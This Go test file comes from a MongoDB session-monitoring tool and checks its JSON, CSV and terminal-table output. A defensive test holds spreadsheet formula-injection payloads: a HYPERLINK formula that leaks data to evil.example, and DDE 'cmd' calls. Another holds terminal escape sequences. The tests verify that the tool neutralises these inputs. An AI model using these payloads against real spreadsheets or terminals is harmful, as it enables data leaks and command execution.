package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"math"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/charmbracelet/x/ansi"

	"github.com/currentop/currentop/source"
)

var update = flag.Bool("update", false, "rewrite golden files in testdata/")

// designSnapshot is the example of the one-shot JSON in DESIGN.md.
func designSnapshot() *source.Snapshot {
	return &source.Snapshot{
		Source:  "mongodb",
		Target:  "mongodb://db1:27017/",
		TakenAt: time.Date(2026, 11, 22, 10, 0, 0, 0, time.UTC),
		Server: source.Server{Host: "db1:27017", Version: "8.0.4", Kind: "mongod", UptimeS: 86400,
			Connections: source.Connections{Current: 412, Available: 838448, Active: 17, TotalCreated: 9120}},
		Clients: []source.Client{{IP: "10.20.3.17", Count: 40, Active: 2, Apps: []string{"orders-api"},
			Users: []string{"ordersApp@admin"}, Drivers: []string{"mongo-go-driver 2.9.3"}}},
		Sessions: []source.Session{{ID: "4119786", Type: "op", Active: true, Op: "query", NS: "shop.orders",
			RunningUS: 7391022, PlanSummary: "COLLSCAN", Client: "10.20.3.17:53422", App: "orders-api",
			User: "ordersApp@admin", Driver: "mongo-go-driver 2.9.3", Host: "rs0-a:27017", Desc: "conn1842",
			ConnectionID: 1842, NumYields: 7402, Command: json.RawMessage(`{"find":"orders"}`),
			Internal: true, Msg: "not in the stable JSON"}},
	}
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test ./report -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from golden:\n got: %s\nwant: %s", name, got, want)
	}
}

func TestJSONMatchesDesign(t *testing.T) {
	var buf bytes.Buffer
	if err := JSON(&buf, designSnapshot()); err != nil {
		t.Fatal(err)
	}
	golden(t, "design.json", buf.Bytes())

	// The keys are the stable interface: exactly these, snake_case, nothing internal leaks.
	var doc map[string]any
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	sess := doc["sessions"].([]any)[0].(map[string]any)
	want := []string{"id", "type", "active", "op", "ns", "running_us", "plan_summary", "client", "app", "user",
		"driver", "host", "shard", "desc", "connection_id", "waiting_for_lock", "num_yields", "command"}
	if len(sess) != len(want) {
		t.Errorf("session has %d keys, want %d: %v", len(sess), len(want), sess)
	}
	for _, k := range want {
		if _, ok := sess[k]; !ok {
			t.Errorf("session lacks key %q", k)
		}
	}
}

func TestJSONEmptyListsAreArrays(t *testing.T) {
	var buf bytes.Buffer
	snap := &source.Snapshot{Source: "mongodb", Clients: []source.Client{{IP: "192.0.2.1"}},
		Sessions: []source.Session{{ID: "conn7", Type: source.TypeIdle}}}
	if err := JSON(&buf, snap); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, want := range []string{`"apps":[]`, `"users":[]`, `"drivers":[]`, `"command":null`} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %s: %s", want, out)
		}
	}
	buf.Reset()
	if err := JSON(&buf, &source.Snapshot{}); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `"clients":[],"sessions":[]`) {
		t.Errorf("empty snapshot should have empty arrays: %s", buf.String())
	}
}

func TestCSVQuotesUntrustedText(t *testing.T) {
	snap := designSnapshot()
	snap.Sessions[0].App = `evil,"app"` + "\nsecond line"
	var buf bytes.Buffer
	if err := Write(&buf, "csv", "sessions", snap); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatalf("output is not valid CSV: %v", err)
	}
	if len(rows) != 2 || rows[1][8] != snap.Sessions[0].App {
		t.Errorf("rows = %q", rows)
	}
	buf.Reset()
	if err := Write(&buf, "csv", "clients", snap); err != nil {
		t.Fatal(err)
	}
	if got := buf.String(); got != `ip,count,active,internal,apps,users,drivers`+"\n"+
		`10.20.3.17,40,2,false,"[""orders-api""]","[""ordersApp@admin""]","[""mongo-go-driver 2.9.3""]"`+"\n" {
		t.Errorf("clients csv = %q", got)
	}
}

func TestTable(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, "table", "all", designSnapshot()); err != nil {
		t.Fatal(err)
	}
	golden(t, "design.table", buf.Bytes())
}

func TestUnknownFormat(t *testing.T) {
	err := Write(&bytes.Buffer{}, "xml", "all", designSnapshot())
	if err == nil || !strings.Contains(err.Error(), "json, csv, table") {
		t.Errorf("err = %v, want one naming the valid formats", err)
	}
}

// Any client chooses its own appName (and user, namespace, …): no such text may become a live
// formula in a spreadsheet. Plain numbers stay numbers.
func TestCSVNeutralisesFormulas(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?leak="&A1,"click")`,
		`+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`-2+3`,
		"\t=1+1",
		"\r=1+1",
		"\n=1+1",
		"＝1+1",
		"-",
		"+",
		"-Infinity",
		"-NaN",
		"-0x1p3",
	}
	for _, app := range hostile {
		snap := designSnapshot()
		s := &snap.Sessions[0]
		s.App, s.User, s.NS, s.Desc, s.Op, s.ID = app, app, app, app, app, app
		snap.Clients[0].Apps = []string{app, "ok"}
		snap.Clients[0].IP = app
		for _, pane := range []string{"sessions", "clients"} {
			var buf bytes.Buffer
			if err := Write(&buf, "csv", pane, snap); err != nil {
				t.Fatal(err)
			}
			rows, err := csv.NewReader(&buf).ReadAll()
			if err != nil {
				t.Fatalf("%q: not valid CSV: %v", app, err)
			}
			if len(rows) != 2 {
				t.Fatalf("%q: %d rows", app, len(rows))
			}
			for i, cell := range rows[1] {
				if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) && !plainNumber(cell) {
					t.Errorf("%s %q: column %s = %q can start a formula", pane, app, rows[0][i], cell)
				}
			}
			if want := "'" + app; !slices.Contains(rows[1], want) {
				t.Errorf("%s %q: no cell is the text with a leading quote: %q", pane, app, rows[1])
			}
		}
	}
}

func TestCSVKeepsPlainNumbers(t *testing.T) {
	for _, n := range []string{"-5", "3.2", "+7", "-0.5", "-1e5", "-.5", "0", "-9223372036854775808", "-1e400"} {
		if got := csvSafe(n); got != n {
			t.Errorf("csvSafe(%q) = %q, want it unchanged", n, got)
		}
	}
	for _, s := range []string{"=1", "-2+3", "-", "@x", "+cmd", "-inf", "-1e5x", "--5", "-1_000"} {
		if got := csvSafe(s); got != "'"+s {
			t.Errorf("csvSafe(%q) = %q, want it quoted", s, got)
		}
	}
	snap := designSnapshot()
	snap.Sessions[0].NumYields = -5 // a server's odd value is a number, not text to neutralise
	var buf bytes.Buffer
	if err := Write(&buf, "csv", "sessions", snap); err != nil {
		t.Fatal(err)
	}
	rows, _ := csv.NewReader(&buf).ReadAll()
	if got := rows[1][16]; got != "-5" {
		t.Errorf("num_yields = %q, want -5", got)
	}
}

// The table cleans every text (no control character, no tab breaking the columns) and shows a
// saturated running time.
func TestTableCleansAndSaturates(t *testing.T) {
	snap := designSnapshot()
	snap.Target = "mongodb://db1/\x1b]0;title\x07"
	snap.Warnings = []string{"partial\x1b[2J"}
	s := &snap.Sessions[0]
	s.App, s.NS, s.RunningUS = "evil\tapp\x1b[31m", "shop.\u200borders", math.MaxInt64
	snap.Clients[0].Apps = []string{"a\x07pp"}
	var buf bytes.Buffer
	if err := Write(&buf, "table", "all", snap); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	for _, r := range out {
		if (r < 0x20 && r != '\n') || r == 0x7f || r == 0x200b {
			t.Fatalf("table keeps %U:\n%s", r, out)
		}
	}
	if !strings.Contains(out, ">100y") || !strings.Contains(out, "shop.\uFFFDorders") {
		t.Errorf("table:\n%s", out)
	}
}

// JSON streams the sessions, and the result is the document encoding/json would write whole.
func TestJSONStreamsTheWholeDocument(t *testing.T) {
	snap := designSnapshot()
	for i := range 3 {
		s := snap.Sessions[0]
		s.ID = strconv.Itoa(i)
		s.App = "<&> é\u2028"
		snap.Sessions = append(snap.Sessions, s)
	}
	var got, want bytes.Buffer
	if err := JSON(&got, snap); err != nil {
		t.Fatal(err)
	}
	doc := document{Source: snap.Source, Target: snap.Target, TakenAt: snap.TakenAt.UTC().Format(time.RFC3339),
		Server: snap.Server, Clients: snap.Clients, Sessions: snap.Sessions}
	enc := json.NewEncoder(&want)
	enc.SetEscapeHTML(false)
	if err := enc.Encode(doc); err != nil {
		t.Fatal(err)
	}
	if got.String() != want.String() {
		t.Errorf("streamed:\n%s\nwhole:\n%s", got.String(), want.String())
	}
}

// richSnapshot has what the design example lacks: wide characters, an index build with
// progress, a lock wait, summaries, counts in the thousands and an internal client.
func richSnapshot() *source.Snapshot {
	snap := designSnapshot()
	snap.Server.UptimeS = 42
	snap.Server.Connections = source.Connections{Current: 2277, Available: 838587, Active: 1203}
	snap.Clients = append(snap.Clients,
		source.Client{IP: "10.20.3.99", Count: 2029, Active: 1180, Apps: []string{"订单服务", "billing"},
			Drivers: []string{"mongo-java-driver|sync 5.1.0"}},
		source.Client{IP: "10.20.0.2", Count: 3, Internal: true, Users: []string{"__system@local"}})
	s := &snap.Sessions[0]
	s.CommandName, s.Summary = "find", `{status: "pending", total: {$gt: 100}}`
	snap.Sessions = append(snap.Sessions,
		source.Session{ID: "4121004", Type: "op", Active: true, Op: "command", NS: "shop.orders", RunningUS: 95_131_020,
			Client: "10.20.3.50:51500", App: "mongosh 2.3.1", User: "dba@admin", Desc: "conn1990",
			CommandName: "createIndexes", Summary: "{customerId: 1, createdAt: -1}", Progress: &source.Progress{Done: 12763930, Total: 15116380}},
		source.Session{ID: "4121077", Type: "op", Active: true, Op: "update", NS: "账单.invoices", RunningUS: 12_000_000,
			Client: "10.20.3.99:40001", App: "订单服务", WaitingForLock: true, Desc: "conn2001",
			CommandName: "update", Summary: `{status: "open"}`})
	return snap
}

func TestTableRich(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, "table", "all", richSnapshot()); err != nil {
		t.Fatal(err)
	}
	golden(t, "rich.table", buf.Bytes())
	// Wide characters keep the columns aligned: in every block, each header's column starts
	// at the same display column in every row.
	for _, block := range strings.Split(buf.String(), "\n\n")[1:] {
		lines := strings.Split(strings.TrimSpace(block), "\n")
		starts := columnStarts(lines[0])
		for _, l := range lines[1:] {
			for _, col := range starts[1:] {
				if w := ansi.StringWidth(l); col < w && !strings.HasPrefix(cutCells(l, col-2), "  ") {
					t.Errorf("column at %d is not preceded by a gap in %q", col, l)
				}
			}
		}
	}
}

// columnStarts are the display columns where a header line's words start.
func columnStarts(header string) []int {
	var out []int
	prev := ' '
	for i, r := range header {
		if r != ' ' && prev == ' ' {
			out = append(out, i) // headers are ASCII: bytes are cells
		}
		prev = r
	}
	return out
}

// cutCells is s from display column col on.
func cutCells(s string, col int) string {
	w := 0
	for i, r := range s {
		if w >= col {
			return s[i:]
		}
		w += ansi.StringWidth(string(r))
	}
	return ""
}

func TestThousandsAndUptime(t *testing.T) {
	for n, want := range map[int64]string{0: "0", 999: "999", 1000: "1,000", 838587: "838,587", -2277: "-2,277",
		math.MaxInt64: "9,223,372,036,854,775,807", math.MinInt64: "-9,223,372,036,854,775,808"} {
		if got := Thousands(n); got != want {
			t.Errorf("Thousands(%d) = %q, want %q", n, got, want)
		}
	}
	for secs, want := range map[int64]string{0: "0s", 42: "42s", 192: "3m12s", 86400: "1d00h", math.MaxInt64: ">100y"} {
		if got := Uptime(secs); got != want {
			t.Errorf("Uptime(%d) = %q, want %q", secs, got, want)
		}
	}
	// A fresh server's (or a cloud source's unknown) uptime is left out, not "up 0ms".
	snap := designSnapshot()
	snap.Server.UptimeS = 0
	var buf bytes.Buffer
	if err := Write(&buf, "table", "sessions", snap); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(buf.String(), " up ") {
		t.Errorf("header with no uptime: %q", strings.SplitN(buf.String(), "\n", 2)[0])
	}
}

// The JSON has the additive fields when known and leaves them out when not.
func TestJSONCommandNameSummaryProgress(t *testing.T) {
	var buf bytes.Buffer
	if err := JSON(&buf, richSnapshot()); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Sessions []map[string]json.RawMessage `json:"sessions"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	ib := doc.Sessions[1]
	if string(ib["command_name"]) != `"createIndexes"` || string(ib["summary"]) != `"{customerId: 1, createdAt: -1}"` ||
		string(ib["progress"]) != `{"done":12763930,"total":15116380}` {
		t.Errorf("index build: %s", buf.Bytes())
	}
	if _, ok := doc.Sessions[2]["progress"]; ok {
		t.Errorf("a session with no progress has one: %s", buf.Bytes())
	}
	// CSV: raw numbers, progress cells empty when unknown.
	buf.Reset()
	if err := Write(&buf, "csv", "sessions", richSnapshot()); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int { return slices.Index(rows[0], name) }
	if got := rows[2][col("progress_done")] + "/" + rows[2][col("progress_total")]; got != "12763930/15116380" {
		t.Errorf("index build progress in CSV = %q", got)
	}
	if got := rows[3][col("progress_done")] + rows[3][col("progress_total")]; got != "" {
		t.Errorf("unknown progress in CSV = %q", got)
	}
	if rows[2][col("command_name")] != "createIndexes" || rows[1][col("summary")] != `{status: "pending", total: {$gt: 100}}` {
		t.Errorf("CSV rows %q", rows)
	}
	// A driver name with "|" stays one item of the list cell.
	buf.Reset()
	if err := Write(&buf, "csv", "clients", richSnapshot()); err != nil {
		t.Fatal(err)
	}
	rows, _ = csv.NewReader(&buf).ReadAll()
	var drivers []string
	if err := json.Unmarshal([]byte(rows[2][6]), &drivers); err != nil || len(drivers) != 1 || drivers[0] != "mongo-java-driver|sync 5.1.0" {
		t.Errorf("drivers cell %q: %q %v", rows[2][6], drivers, err)
	}
}

func membersSnapshot() *source.Snapshot {
	lag := 12.5
	zero := 0.0
	snap := &source.Snapshot{
		Source: "mongodb", Target: "mongodb://db1:27017,db2:27017,db3:27017/?replicaSet=rs0",
		TakenAt: time.Date(2026, 12, 6, 23, 0, 0, 0, time.UTC),
		Server:  source.Server{Host: "db1:27017", Version: "8.0.4", Kind: "mongod", UptimeS: 3600},
		Members: []source.Member{
			{Host: "db1:27017", Set: "rs0", Kind: "mongod", State: "PRIMARY", Version: "8.0.4", OK: true, Connections: 1200, Ops: 7, LagS: &zero},
			{Host: "db2:27017", Set: "rs0", Kind: "mongod", State: "SECONDARY", Version: "8.0.4", OK: true, Connections: 80, Ops: 2, LagS: &lag},
			{Host: "db3:27017", Set: "rs0", Kind: "mongod", State: "SECONDARY", Version: "8.0.4", Error: "unreachable: connection refused", Stale: true},
			{Host: "db4:27017", Set: "rs0", Kind: "arbiter", State: "ARBITER", OK: true},
		},
		Warnings: []string{"db3:27017 did not answer (unreachable: connection refused): its 1 sessions are as last seen"},
	}
	return snap
}

func TestTableMembers(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, "table", "all", membersSnapshot()); err != nil {
		t.Fatal(err)
	}
	golden(t, "members.table", buf.Bytes())
}

func TestJSONMembers(t *testing.T) {
	var buf bytes.Buffer
	if err := JSON(&buf, membersSnapshot()); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Members []map[string]any `json:"members"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	if len(doc.Members) != 4 {
		t.Fatalf("members %v", doc.Members)
	}
	for _, k := range []string{"host", "state", "version", "kind", "ok", "connections", "ops"} {
		if _, ok := doc.Members[0][k]; !ok {
			t.Errorf("member lacks %q: %v", k, doc.Members[0])
		}
	}
	if doc.Members[1]["lag_s"] != 12.5 || doc.Members[2]["error"] != "unreachable: connection refused" || doc.Members[2]["ok"] != false {
		t.Errorf("members %v", doc.Members)
	}
	if _, ok := doc.Members[2]["lag_s"]; ok {
		t.Errorf("an unknown lag is absent, got %v", doc.Members[2])
	}
	// A single node has no members key at all.
	buf.Reset()
	if err := JSON(&buf, &source.Snapshot{}); err != nil || strings.Contains(buf.String(), `"members"`) {
		t.Errorf("single node: %s %v", buf.String(), err)
	}
}
